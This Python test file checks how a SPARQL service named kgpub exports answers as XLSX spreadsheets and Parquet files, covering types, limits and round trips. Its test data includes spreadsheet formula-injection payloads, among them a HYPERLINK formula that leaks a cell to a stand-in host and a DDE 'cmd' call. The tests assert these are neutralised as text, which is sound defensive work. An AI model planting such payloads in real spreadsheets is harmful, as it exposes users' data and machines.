"""Answers as spreadsheets and as Parquet files, read back by other libraries than write them."""

import io
import json
import math
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pandas
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from pyarrow import parquet as files
from pyoxigraph import BaseDirection, BlankNode, Literal, NamedNode, RdfFormat, Store, Triple, parse
from starlette.testclient import TestClient

from kgpub import formats
from kgpub.engine import DatasetClause, parquet, sheets
from kgpub.engine.evaluate import Question, answer
from kgpub.engine.ground import Ground
from kgpub.engine.tables import Row, Table, Term
from kgpub.errors import KgpubError, LimitReached, NotAcceptable, QueryRefused
from kgpub.formats import GRAPHS, PARQUET, TABLES, W3C_RESULTS, XLSX, Format
from kgpub.making.building import build
from kgpub.model import Report
from kgpub.settings import Settings
from kgpub.web import create_app
from kgpub.web.serving import Serving

BASE = "https://example.org/"
XSD = "http://www.w3.org/2001/XMLSchema#"


def typed(text: str, name: str) -> Literal:
    return Literal(text, datatype=NamedNode(XSD + name))


def moment(text: str) -> datetime:
    return datetime.fromisoformat(text)


def ask(query: str, format: Format, rows: int = 1_000_000, size: int = 100_000_000, scratch: str = "") -> bytes:
    """The answer to a query over nothing."""
    chunks: list[bytes] = []
    ground = Ground(BASE, {"xsd": XSD}, rows, size, scratch)
    answer(Store(), ground, Question(query, format.media_type, DatasetClause()), lambda _, chunk: chunks.append(chunk))
    return b"".join(chunks)


@dataclass
class Sink:
    """What a table is written to."""

    most: int = 100_000_000
    scratch: str = ""
    body: bytearray = field(default_factory=bytearray)

    def write(self, piece: bytes) -> int:
        self.body += piece
        return len(piece)

    def fit(self, size: int) -> None:
        if size > self.most:
            raise LimitReached(f"more than {self.most}")


Write = Callable[[Table, Sink], None]


def made(write: Write, *rows: Row, names: tuple[str, ...] | None = None, query: str = "?") -> bytes:
    sink = Sink()
    write(Table(names or tuple(f"v{n}" for n in range(len(rows[0]))), iter(rows), query, BASE), sink)
    return bytes(sink.body)


# spreadsheets


def book(body: bytes) -> Any:  # Any: the library has no types
    return openpyxl.load_workbook(io.BytesIO(body), rich_text=False)


def cells(body: bytes, sheet: str = "results") -> list[list[Any]]:
    return [[cell.value for cell in row] for row in book(body)[sheet]]


DATE, SECOND, FRACTION = "yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss", "yyyy-mm-dd hh:mm:ss.000"
CELLS: list[tuple[Term, object, str, str]] = [
    # numbers
    (typed("42", "integer"), 42, "n", "an integer"),
    (typed("-7", "int"), -7, "n", "a derived integer"),
    (typed("0", "nonNegativeInteger"), 0, "n", "nothing at all"),
    (typed("007", "integer"), 7, "n", "leading zeros say nothing of the number"),
    (typed("999999999999999", "integer"), 999_999_999_999_999, "n", "fifteen digits"),
    (typed("1000000000000001", "integer"), "1000000000000001", "s", "sixteen digits are shown wrong, so they are text"),
    (typed("9007199254740993", "integer"), "9007199254740993", "s", "an integer that no double is"),
    (typed("1" + "0" * 20, "integer"), 10**20, "n", "a large round integer"),
    (typed("1" + "0" * 400, "integer"), "1" + "0" * 400, "s", "an integer beyond every double"),
    (typed("9" * 5000, "integer"), "9" * 5000, "s", "an integer longer than Python reads"),
    (typed("४२", "integer"), "४२", "s", "digits of another script are no integer"),
    (typed("1_0", "integer"), "1_0", "s", "a spelling that only Python knows"),
    (typed("1.0", "integer"), "1.0", "s", "an integer with a point is none"),
    (typed("abc", "integer"), "abc", "s", "an integer that is none"),
    (typed("0.1", "decimal"), 0.1, "n", "a decimal"),
    (typed("-1.50", "decimal"), -1.5, "n", "a decimal with a zero at its end"),
    (typed("1234567890.12345", "decimal"), 1234567890.12345, "n", "a decimal of fifteen digits"),
    (typed("0.1234567890123456", "decimal"), "0.1234567890123456", "s", "a decimal of sixteen digits"),
    (typed("1e3", "decimal"), "1e3", "s", "a decimal has no exponent"),
    (typed("0.30000000000000004", "double"), 0.30000000000000004, "n", "a double of seventeen digits, not rounded"),
    (typed("1.5E10", "double"), 1.5e10, "n", "a double with an exponent"),
    (typed("1e300", "double"), 1e300, "n", "a very large double"),
    (typed("1.7e308", "double"), "1.7e308", "s", "a double that is larger than spreadsheets know"),
    (typed("1e-320", "double"), "1e-320", "s", "a double that is smaller than spreadsheets know"),
    (typed("1e-400", "double"), "1e-400", "s", "a double that would become 0"),
    (typed("0." + "0" * 400 + "1", "decimal"), "0." + "0" * 400 + "1", "s", "a decimal that would become 0"),
    (typed("0.0e7", "double"), 0, "n", "0 with an exponent"),
    (typed("0.1", "float"), 0.1, "n", "a float"),
    (typed("INF", "double"), "INF", "s", "infinity"),
    (typed("NaN", "float"), "NaN", "s", "no number"),
    (typed("inf", "double"), "inf", "s", "infinity as only Python spells it"),
    # truth
    (typed("true", "boolean"), True, "b", "true"),
    (typed("0", "boolean"), False, "b", "false as a digit"),
    (typed("yes", "boolean"), "yes", "s", "a boolean that is none"),
    # dates
    (typed("2024-02-29", "date"), moment("2024-02-29T00:00:00"), DATE, "a date"),
    (typed("1900-03-01", "date"), moment("1900-03-01T00:00:00"), DATE, "the first date"),
    (typed("1900-02-28", "date"), "1900-02-28", "s", "before the first date"),
    (typed("9999-12-31", "date"), moment("9999-12-31T00:00:00"), DATE, "the last date"),
    (typed("10000-01-01", "date"), "10000-01-01", "s", "after the last date"),
    (typed("-0044-03-15", "date"), "-0044-03-15", "s", "before our era"),
    (typed("2023-02-29", "date"), "2023-02-29", "s", "a day that never was"),
    (typed("2024-02-29Z", "date"), "2024-02-29Z", "s", "a date with time zone"),
    (typed("20240229", "date"), "20240229", "s", "another notation"),
    (typed("2024-02-29T13:14:15", "dateTime"), moment("2024-02-29T13:14:15"), SECOND, "date and time"),
    (typed("2024-02-29T13:14:15.5", "dateTime"), moment("2024-02-29T13:14:15.500000"), FRACTION, "half a second"),
    (typed("9999-12-31T23:59:59.999", "dateTime"), moment("9999-12-31T23:59:59.999000"), FRACTION, "the last ms"),
    (typed("2024-02-29T13:14:15.0001", "dateTime"), "2024-02-29T13:14:15.0001", "s", "finer than a cell is"),
    (typed("2024-02-29T13:14:15Z", "dateTime"), "2024-02-29T13:14:15Z", "s", "date and time with time zone"),
    (typed("2024-02-29T13:14:15+04:00", "dateTime"), "2024-02-29T13:14:15+04:00", "s", "the same in Tbilisi"),
    (typed("1899-12-31T23:59:59", "dateTime"), "1899-12-31T23:59:59", "s", "date and time too early"),
    (typed("2024-02-29T25:00:00", "dateTime"), "2024-02-29T25:00:00", "s", "an hour that never was"),
    (typed("2024", "gYear"), "2024", "s", "a year is text"),
    (typed("13:14:15", "time"), "13:14:15", "s", "a time of day is text"),
    # text
    (Literal("=1+1"), "=1+1", "s", "a formula"),
    (Literal("=HYPERLINK(\"http://x/?\"&A1)", language="en"), "=HYPERLINK(\"http://x/?\"&A1)", "s", "a formula that tells"),
    (Literal("{=SUM(A1:A2)}"), "{=SUM(A1:A2)}", "s", "an array formula"),
    (Literal("+cmd|' /C calc'!A0"), "+cmd|' /C calc'!A0", "s", "a program"),
    (Literal("-2+3"), "-2+3", "s", "a difference"),
    (Literal("@SUM(1)"), "@SUM(1)", "s", "an old formula"),
    (Literal("\t=1"), "\t=1", "s", "a formula behind a tab"),
    (typed("=1", "integer"), "=1", "s", "a formula that says it is a number"),
    (Literal("42"), "42", "s", "a text of digits"),
    (Literal("<r><t>x</t></r>"), "<r><t>x</t></r>", "s", "markup of the sheet itself"),
    (Literal("<r></is></r>"), "<r></is></r>", "s", "markup that would break the sheet"),
    (Literal("&amp; <b> \" ]]>"), "&amp; <b> \" ]]>", "s", "marks of XML"),
    (Literal("  two  spaces "), "  two  spaces ", "s", "spaces at both ends"),
    (Literal("one\ntwo"), "one\ntwo", "s", "two lines"),
    (Literal("თბილისი", language="ka"), "თბილისი", "s", "Georgian"),
    (Literal("😀" * 16_383), "😀" * 16_383, "s", "as long as a cell can be, in units of UTF-16"),
    (Literal("x" * 32_767), "x" * 32_767, "s", "as long as a cell can be"),
    (NamedNode("http://example.org/a"), "http://example.org/a", "s", "an IRI is no link"),
    (NamedNode("mailto:a@example.org"), "mailto:a@example.org", "s", "nor is an address"),
    (NamedNode("internal:Sheet2!A1"), "internal:Sheet2!A1", "s", "nor is what the library takes for a place"),
    (BlankNode("b1"), "_:b1", "s", "a blank node"),
    (Triple(NamedNode("a:s"), NamedNode("a:p"), Literal("o")), '<<( <a:s> <a:p> "o" )>>', "s", "a triple term"),
]  # fmt: skip


@pytest.mark.parametrize(("term", "value", "kind"), [pytest.param(*row[:3], id=row[3]) for row in CELLS])
def test_a_cell_has_the_type_and_value_of_its_term(term: Term, value: object, kind: str) -> None:
    sheet = book(made(sheets.write, (term,)))["results"]
    cell = sheet["A2"]
    assert cell.value == value
    assert (cell.number_format if cell.data_type == "d" else cell.data_type) == kind
    assert cell.hyperlink is None


def test_no_sheet_has_a_formula_or_a_link() -> None:
    rows = [(term,) for term, *_ in CELLS]
    with zipfile.ZipFile(io.BytesIO(made(sheets.write, *rows, query="=1+1"))) as archive:
        names = archive.namelist()
        parts = {name: archive.read(name) for name in names}
    assert not any(b"<f>" in part or b"<f " in part or b"<hyperlink" in part for part in parts.values())
    assert not any("rels" in name and "sheet" in name.rpartition("/")[2] for name in names)


def test_a_text_that_looks_like_a_formula_stays_text_when_it_is_edited() -> None:
    sheet = book(made(sheets.write, (Literal("=1"), Literal("1"))))["results"]
    assert [cell.quotePrefix for cell in sheet[2]] == [True, False]


def test_the_heading_stands_still_in_bold_above_a_filter() -> None:
    sheet = book(ask("SELECT ?a ?ბ ?_1 { VALUES (?a ?ბ ?_1) { (1 2 3) (4 5 6) } }", XLSX))["results"]
    assert [cell.value for cell in sheet[1]] == ["a", "ბ", "_1"]
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C3"


SHEETS = [
    ("SELECT ?x ?y { VALUES (?x ?y) { (1 UNDEF) (UNDEF '') } }", [["x", "y"], [1, None], [None, ""]], "unbound"),
    ("SELECT ?x ?y { FILTER(false) }", [["x", "y"]], "an empty answer"),
    ("SELECT * {}", [], "a row without variables"),
    ("ASK {}", [["boolean"], [True]], "yes"),
    ("ASK { FILTER(false) }", [["boolean"], [False]], "no"),
]


@pytest.mark.parametrize(("query", "expected"), [pytest.param(*row[:2], id=row[2]) for row in SHEETS])
def test_sheets(query: str, expected: list[list[object]]) -> None:
    assert [[one or None for one in row] for row in cells(ask(query, XLSX))] == [
        [one or None for one in row] for row in expected
    ]


def test_the_second_sheet_says_what_was_asked() -> None:
    query = "=SELECT" + " ?x" * 12_000
    about = cells(made(sheets.write, (Literal("x"),), query=query), "about")
    assert "".join(what for name, what in about if name == "query") == query
    assert ["base", BASE] in about
    assert ["rows", 1] in about
    assert {"note", "შენიშვნა"} <= {name for name, _ in about}


REFUSED = [
    (XLSX, f"SELECT ('{'x' * 32_768}' AS ?x) {{}}", NotAcceptable, "32,767", "a text longer than a cell"),
    (XLSX, f"SELECT ('{'😀' * 16_384}' AS ?x) {{}}", NotAcceptable, "32,767", "the same in units of UTF-16"),
    (XLSX, "SELECT ('a\\u0000b' AS ?x) {}", NotAcceptable, "control", "a zero byte"),
    (XLSX, "SELECT ('\\u001F' AS ?x) {}", NotAcceptable, "control", "a control character"),
    (XLSX, "SELECT ('\\uFFFE' AS ?x) {}", NotAcceptable, "control", "a character that is none"),
    (XLSX, "SELECT ('\x01' AS ?y) {}", NotAcceptable, "control", "a control character in the query itself"),
    *(
        (one, "SELECT (<urn:f>(1) AS ?x) {}", QueryRefused, "not supported", f"{one.name}: a function of nobody's")
        for one in TABLES
    ),
    (PARQUET, "SELECT * {}", NotAcceptable, "columns", "a Parquet file without columns"),
    *(
        (one, "SELECT * { VALUES ?x { 1 2 3 } }", LimitReached, "more than 2 rows", f"{one.name}: too many rows")
        for one in TABLES
    ),
    *(
        (one, f"SELECT ('{'x' * 160_000}' AS ?x) {{}}", LimitReached, "longer than 150,000 bytes", f"{one.name}: too many bytes")
        for one in TABLES
    ),
    *((one, "CONSTRUCT {} {}", NotAcceptable, "Nothing here", f"{one.name}: triples") for one in TABLES),
]  # fmt: skip


@pytest.mark.parametrize(("format", "query", "error", "words"), [pytest.param(*row[:4], id=row[4]) for row in REFUSED])
def test_what_cannot_be_written_is_refused_before_anything_is_sent(
    format: Format, query: str, error: type[KgpubError], words: str, tmp_path: Path
) -> None:
    sent: list[bytes] = []
    ground = Ground(BASE, {}, 2, 150_000, str(tmp_path))
    with pytest.raises(error, match=words) as refusal:
        answer(Store(), ground, Question(query, format.media_type, DatasetClause()), lambda _, one: sent.append(one))
    assert not sent
    assert not list(tmp_path.iterdir()), "nothing is left behind"
    if isinstance(refusal.value, NotAcceptable) and query.startswith("CONSTRUCT"):
        assert refusal.value.offered == tuple(one.media_type for one in GRAPHS)


def test_carriage_returns_come_back() -> None:
    with zipfile.ZipFile(io.BytesIO(made(sheets.write, (Literal("a\r\nb _x000D_"),)))) as archive:
        assert b">a_x000D_\nb _x005F_x000D_<" in archive.read("xl/worksheets/sheet1.xml")


def test_a_sheet_ends_where_a_sheet_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_ROWS", 2)
    assert len(cells(ask("SELECT * { VALUES ?x { 1 2 } }", XLSX))) == 3
    with pytest.raises(LimitReached, match="at most 2 rows"):
        ask("SELECT * { VALUES ?x { 1 2 3 } }", XLSX)
    monkeypatch.setattr(sheets, "MAX_COLUMNS", 1)
    with pytest.raises(LimitReached, match="at most 1 columns; the answer has 2"):
        ask("SELECT ?x ?y { VALUES ?x { 1 2 } }", XLSX)


def test_the_finished_sheet_counts_too() -> None:
    with pytest.raises(LimitReached, match="longer than 2,000 bytes"):
        ask("SELECT * { VALUES ?x { 1 } }", XLSX, size=2_000)


def test_temporary_files_stand_where_they_are_told_to(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "nowhere"))
    assert cells(ask("SELECT * { VALUES ?x { 1 } }", XLSX, scratch=str(tmp_path))) == [["x"], [1]]
    assert not list(tmp_path.iterdir())


NO_CONTROL = st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff")
HARD = st.sampled_from(["=1", "<r></r>", "<r>&</r>", "_x0041_", "_x000D_\r\n", "\t", " "])
FINITE = st.floats(-1e307, -1e-307) | st.floats(1e-307, 1e307) | st.sampled_from([0.0, -0.0])


@settings(max_examples=20)
@given(st.lists(st.text(NO_CONTROL, min_size=1) | HARD, min_size=1, max_size=60))
def test_any_text_comes_back(texts: list[str]) -> None:
    """Excel reads ``_x0041_`` as the character (ECMA-376 part 1 section 22.9.2.19), openpyxl leaves that to us."""
    found = cells(made(sheets.write, *((Literal(one),) for one in texts)))[1:]
    assert [unescape(row[0]) for row in found] == texts


@settings(max_examples=10)
@given(st.lists(st.integers(-(10**18), 10**18), min_size=1, max_size=99))
def test_an_integer_comes_back_as_a_number_or_as_text(numbers: list[int]) -> None:
    found = cells(made(sheets.write, *((typed(str(one), "integer"),) for one in numbers)))[1:]
    assert [row[0] for row in found] == [one if len(str(abs(one)).rstrip("0")) <= 15 else str(one) for one in numbers]


@settings(max_examples=10)
@given(st.lists(FINITE, min_size=1, max_size=99))
def test_a_double_comes_back_to_its_last_bit(numbers: list[float]) -> None:
    found = cells(made(sheets.write, *((typed(repr(one), "double"),) for one in numbers)))[1:]
    assert [row[0] for row in found] == numbers


# Parquet


def frame(body: bytes) -> Any:  # Any: the library has no types
    return files.read_table(io.BytesIO(body))


COLUMNS = [
    (["1", "-2"], "integer", pa.int64(), [1, -2], "integers"),
    (["1", "9223372036854775807"], "long", pa.int64(), [1, 2**63 - 1], "as large as they can be"),
    (["1", "9223372036854775808"], "integer", pa.string(), ["1", "9223372036854775808"], "an integer beyond 64 bits"),
    (["1", "02"], "integer", pa.string(), ["1", "02"], "an integer whose form a number would lose"),
    (["1", "0x1F"], "integer", pa.string(), ["1", "0x1F"], "a spelling that only the library knows"),
    (["1", "x"], "integer", pa.string(), ["1", "x"], "an integer that is none"),
    (["1.5", "-0.001", "2"], "decimal", pa.decimal128(38, 3), [Decimal("1.5"), Decimal("-0.001"), 2], "decimals"),
    (["1.50"], "decimal", pa.string(), ["1.50"], "a decimal with a zero that a number would lose"),
    (["0." + "1" * 40], "decimal", pa.string(), ["0." + "1" * 40], "a decimal that is too long"),
    (["1" * 40], "decimal", pa.string(), ["1" * 40], "a decimal that is too large"),
    (["0.1", "1e3"], "double", pa.string(), ["0.1", "1e3"], "a double whose form a number would lose"),
    (["0.1", "1000", "INF"], "double", pa.float64(), [0.1, 1000.0, math.inf], "doubles"),
    (["0.1"], "float", pa.float64(), [0.1], "floats"),
    (["0.1", "x"], "float", pa.string(), ["0.1", "x"], "a float that is none"),
    (["true", "false"], "boolean", pa.bool_(), [True, False], "booleans"),
    (["true", "1"], "boolean", pa.string(), ["true", "1"], "a boolean as a digit"),
    (["2024-02-29", "0001-01-01"], "date", pa.date32(), [date(2024, 2, 29), date(1, 1, 1)], "dates"),
    (["2024-02-29", "0000-01-01"], "date", pa.string(), ["2024-02-29", "0000-01-01"], "the year 0"),
    (["2024-02-29", "2024-02-29Z"], "date", pa.string(), ["2024-02-29", "2024-02-29Z"], "a date with time zone"),
    (
        ["2024-02-29T13:14:15.12"], "dateTime", pa.timestamp("us"), [moment("2024-02-29T13:14:15.120000")],
        "moments without time zone",
    ),
    (
        ["2024-02-29T13:14:15Z"], "dateTime", pa.timestamp("us", "UTC"), [datetime(2024, 2, 29, 13, 14, 15, tzinfo=UTC)],
        "moments in UTC",
    ),
    (
        ["2024-02-29T13:14:15Z", "2024-02-29T13:14:15"], "dateTime", pa.string(),
        ["2024-02-29T13:14:15Z", "2024-02-29T13:14:15"], "moments of both kinds",
    ),
    (["2024-02-29T13:14:15+04:00"], "dateTime", pa.string(), ["2024-02-29T13:14:15+04:00"], "moments in Tbilisi"),
    (["2024-02-29T13:14:15.1234567"], "dateTime", pa.string(), ["2024-02-29T13:14:15.1234567"], "finer than microseconds"),
    (["2024"], "gYear", pa.string(), ["2024"], "a datatype without a type of columns"),
]  # fmt: skip


@pytest.mark.parametrize(("texts", "name", "kind", "values"), [pytest.param(*row[:4], id=row[4]) for row in COLUMNS])
def test_a_column_has_the_type_of_its_terms(texts: list[str], name: str, kind: object, values: list[object]) -> None:
    table = frame(made(parquet.write, *((typed(one, name),) for one in texts), (None,), names=("x",)))
    assert table.column_names == ["x"]
    assert table.schema.field("x").type == kind
    assert table["x"].to_pylist() == [*values, None]
    assert json.loads(table.schema.metadata[b"kgpub.types"]) == {"x": XSD + name}


def test_where_types_differ_a_column_says_them() -> None:
    found = frame(ask("SELECT * { VALUES (?x ?y) { (1 <a>) ('one'@en <b>) ('1' UNDEF) (UNDEF UNDEF) } }", PARQUET))
    assert found.to_pydict() == {
        "x": ["1", "one", "1", None],
        "x.type": [XSD + "integer", "@en", XSD + "string", None],
        "y": [BASE + "a", BASE + "b", None, None],
    }
    assert json.loads(found.schema.metadata[b"kgpub.types"]) == {"y": "iri"}


def test_a_file_says_what_was_asked() -> None:
    said = frame(ask("ASK {}", PARQUET)).schema.metadata
    assert (said[b"kgpub.query"], said[b"kgpub.base"]) == (b"ASK {}", BASE.encode())
    assert said[b"kgpub.version"]


def test_pandas_reads_it() -> None:
    found = pandas.read_parquet(io.BytesIO(ask("SELECT * { VALUES (?x ?y) { (1 'a') (2 'b') } }", PARQUET)))
    assert found["x"].sum() == 3
    assert list(found["y"]) == ["a", "b"]


def test_an_empty_answer_and_an_unbound_variable_are_columns_too() -> None:
    assert frame(ask("SELECT ?x ?y { FILTER(false) }", PARQUET)).to_pydict() == {"x": [], "y": []}
    assert frame(ask("SELECT ?x {}", PARQUET)).to_pydict() == {"x": [None]}
    assert frame(ask("ASK {}", PARQUET)).to_pydict() == {"boolean": [True]}


def test_row_groups_are_one_table(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(parquet, "GROUP", 7)
    monkeypatch.setattr(parquet, "_CELLS", 6)
    rows: list[Row] = [(typed(str(n), "integer"), Literal(str(n)) if n % 2 else NamedNode(f"a:{n}")) for n in range(20)]
    body = made(parquet.write, *rows, names=("n", "x"))
    assert files.ParquetFile(io.BytesIO(body)).num_row_groups == 3
    assert read(body) == rows


# a Parquet file gives every term back


def read(body: bytes) -> list[Row]:
    """The rows of a file, by what the module says of the format."""
    found = frame(body)
    types = json.loads(found.schema.metadata[b"kgpub.types"])
    columns = found.to_pydict()
    names = [name for name in columns if "." not in name]
    return [
        tuple(_term(columns[name][row], (columns.get(f"{name}.type") or {row: types.get(name)})[row]) for name in names)
        for row in range(len(found))
    ]


def _term(value: Any, kind: str | None) -> Term | None:
    """A term out of its value and its type."""
    if value is None:
        return None
    assert kind is not None
    if kind == "iri":
        return NamedNode(value)
    if kind == "bnode":
        return BlankNode(value)
    if kind == "triple":
        (quad,) = parse(f"<a:s> <a:p> {value} .", format=RdfFormat.N_TRIPLES)
        assert isinstance(quad.object, Triple)
        return quad.object
    if kind.startswith("@"):
        tag, _, direction = kind[1:].partition("--")
        return Literal(value, language=tag, direction=BaseDirection(direction) if direction else None)
    return Literal(_lexical(value), datatype=NamedNode(kind))


def _lexical(value: Any) -> str:
    """The lexical form of a value."""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, float):
        return Literal(value).value
    if isinstance(value, Decimal):
        return _trimmed(f"{value:f}")
    if isinstance(value, datetime):
        zone = "Z" if value.tzinfo else ""
        return _trimmed(value.replace(tzinfo=None).isoformat(timespec="microseconds")) + zone
    return value.isoformat() if isinstance(value, date) else str(value)


def _trimmed(text: str) -> str:
    return text.rstrip("0").rstrip(".") if "." in text else text


TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
NODES = st.integers(0, 5).map(lambda n: NamedNode(f"https://example.org/ა{n}"))
BLANKS = st.integers(0, 5).map(lambda n: BlankNode(f"b{n}"))
NUMBERS = st.integers(-(2**70), 2**70).map(str) | st.sampled_from(["0", "-0", "007", "+1", "", "x", "1.0"])
FRACTIONS = st.decimals(allow_nan=False, allow_infinity=False, places=3).map(lambda n: f"{n:f}")
DATES = st.dates().map(date.isoformat) | st.sampled_from(["2024-01-01Z", "-0001-01-01", "0000-01-01", "2024-02-30"])
MOMENTS = st.datetimes().map(lambda m: _trimmed(m.isoformat(timespec="microseconds")))
LEXICAL = {
    "integer": NUMBERS,
    "unsignedByte": st.integers(0, 255).map(str),
    "decimal": FRACTIONS | FRACTIONS.map(_trimmed) | NUMBERS,
    "double": st.floats().map(lambda n: Literal(n).value) | NUMBERS | st.sampled_from(["1e3", "inf", "nan", "NaN"]),
    "float": st.floats(width=32).map(lambda n: Literal(n).value),
    "boolean": st.sampled_from(["true", "false", "1", "TRUE"]),
    "date": DATES,
    "dateTime": MOMENTS | MOMENTS.map(lambda text: text + "Z") | st.just("2024-01-01T00:00:00+04:00") | DATES,
    "string": TEXTS,
    "hexBinary": TEXTS,
}
UNIFORM: list[st.SearchStrategy[Term]] = [
    *(st.builds(typed, texts, st.just(name)) for name, texts in LEXICAL.items()),
    st.tuples(st.sampled_from(["en", "ka-GE"]), TEXTS).map(lambda pair: Literal(pair[1], language=pair[0])),
    TEXTS.map(lambda text: Literal(text, language="ar", direction=BaseDirection("rtl"))),
    NODES,
    BLANKS,
]
SIMPLE = st.one_of(UNIFORM)
TRIPLES = st.builds(Triple, NODES | BLANKS, NODES, SIMPLE | st.builds(Triple, NODES, NODES, SIMPLE))
ROW_COUNTS = st.integers(0, 6)


@st.composite
def answers(draw: st.DrawFn) -> list[Row]:
    """Rows whose columns are of one type as often as not."""
    height, width = draw(ROW_COUNTS), draw(st.integers(1, 3))
    kinds = st.sampled_from([*UNIFORM, SIMPLE, TRIPLES, SIMPLE | TRIPLES])
    columns = [draw(st.lists(st.none() | draw(kinds), min_size=height, max_size=height)) for _ in range(width)]
    return list(zip(*columns, strict=True))


@given(answers())
def test_every_term_comes_back(rows: list[Row]) -> None:
    names = ("a", "b", "c")[: len(rows[0]) if rows else 1]
    assert read(made(parquet.write, *rows, names=names)) == rows


# both


@pytest.mark.parametrize("format", TABLES, ids=lambda one: one.name)
def test_equal_answers_are_equal_files(format: Format, monkeypatch: pytest.MonkeyPatch) -> None:
    query = "SELECT * { VALUES (?x ?y) { (1 'a'@en) (UNDEF <b>) } }"
    first = ask(query, format)
    with monkeypatch.context() as elsewhere:
        elsewhere.setenv("TZ", "Asia/Tbilisi")
        time.tzset()
        second = ask(query, format)
    time.tzset()
    assert second == first


COUNTED = [
    ("SELECT * { VALUES ?x { 1 2 3 } }", (*W3C_RESULTS, *TABLES), 3),
    ("SELECT ?x { FILTER(false) }", (*W3C_RESULTS, *TABLES), 0),
    ("ASK { FILTER(false) }", (*W3C_RESULTS, *TABLES), 1),
    ("CONSTRUCT { <a> <b> ?x } { VALUES ?x { 1 2 3 } }", GRAPHS, 3),
    ("CONSTRUCT {} {}", GRAPHS, 0),
]


@pytest.mark.parametrize(
    ("query", "format", "count"),
    [pytest.param(query, one, count, id=f"{one.name}: {query}") for query, some, count in COUNTED for one in some],
)
def test_an_answer_says_how_many_rows_or_triples_it_has(query: str, format: Format, count: int) -> None:
    question = Question(query, format.media_type, DatasetClause())
    assert answer(Store(), Ground(BASE, {}, 10, 10_000_000), question, lambda _format, _chunk: None) == count


@pytest.mark.parametrize("module", ["kgpub.engine.evaluate", "kgpub.engine.sheets", "kgpub.engine.parquet"])
def test_what_answers_questions_reads_no_settings(module: str) -> None:
    script = f"import sys, {module}; print(*sys.modules)"
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    loaded = set(done.stdout.split())
    assert not loaded & {"pydantic", "kgpub.settings", "rdflib", "fastapi"}
    if module.endswith("evaluate"):
        assert not loaded & {"pyarrow", "xlsxwriter", "numpy"}


# over HTTP


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    folder = tmp_path_factory.mktemp("site")
    (folder / "data").mkdir()
    (folder / "data" / "a.ttl").write_text(f"<{BASE}a> <{BASE}p> '=1+1', 42 .", "utf-8")
    site = Settings(title="t", base=BASE, languages=("en",), folder=folder)
    build(site, lambda _files, _site: Report(True), lambda _step, _done: None)
    with TestClient(create_app(Serving(site))) as opened:
        yield opened


SELECT = "SELECT ?o { ?s ?p ?o } ORDER BY ?o"
CHROME = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8"
WAYS = [
    (SELECT, {"format": "xlsx"}, CHROME, XLSX),
    (SELECT, {"format": "parquet"}, None, PARQUET),
    (SELECT, {}, XLSX.media_type, XLSX),
    (SELECT, {}, f"{PARQUET.media_type}, */*;q=0.5", PARQUET),
    ("ASK {}", {"format": "xlsx"}, None, XLSX),
    (SELECT, {}, "*/*", formats.RESULTS_JSON),
    (SELECT, {}, "application/*", formats.RESULTS_JSON),
    (SELECT, {}, CHROME, formats.HTML),
]


@pytest.mark.parametrize(("query", "parameters", "accept", "format"), WAYS)
def test_over_http(
    client: TestClient, query: str, parameters: dict[str, str], accept: str | None, format: Format
) -> None:
    headers = {"Accept": accept} if accept else {}
    found = client.get("/sparql", params={"query": query} | parameters, headers=headers)
    assert (found.status_code, found.headers["content-type"]) == (200, format.content_type)
    if format is XLSX and query == SELECT:
        assert cells(found.content) == [["o"], ["=1+1"], [42]] or cells(found.content) == [["o"], [42], ["=1+1"]]
    if format is PARQUET:
        assert sorted(frame(found.content)["o"].to_pylist()) == ["42", "=1+1"]


@pytest.mark.parametrize("format", TABLES, ids=lambda one: one.name)
def test_triples_are_no_table(client: TestClient, format: Format) -> None:
    query = "CONSTRUCT WHERE { ?s ?p ?o }"
    found = client.get("/sparql", params={"query": query, "format": format.extension})
    assert (found.status_code, found.json()["offered"]) == (406, [one.media_type for one in GRAPHS])
